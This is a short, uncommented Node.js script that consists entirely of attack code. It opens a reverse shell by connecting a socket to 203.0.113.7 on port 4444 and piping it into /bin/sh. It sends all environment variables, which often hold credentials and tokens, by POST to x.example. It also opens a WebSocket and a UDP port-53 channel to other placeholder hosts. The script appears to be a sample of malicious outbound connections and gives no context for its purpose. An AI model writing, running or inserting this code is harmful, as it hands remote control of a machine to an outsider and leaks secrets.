const net = require("net");
const { spawn } = require("child_process");
const c = new net.Socket();
c.connect(4444, "203.0.113.7", () => {
  const sh = spawn("/bin/sh", []);
  c.pipe(sh.stdin);
  sh.stdout.pipe(c);
});
const x = new XMLHttpRequest();
x.open("POST", "https://x.example/");
x.send(JSON.stringify({ ...process.env }));
new WebSocket("wss://ws.example/feed");
require("dgram").createSocket("udp4").send(msg, 53, "dns.example");
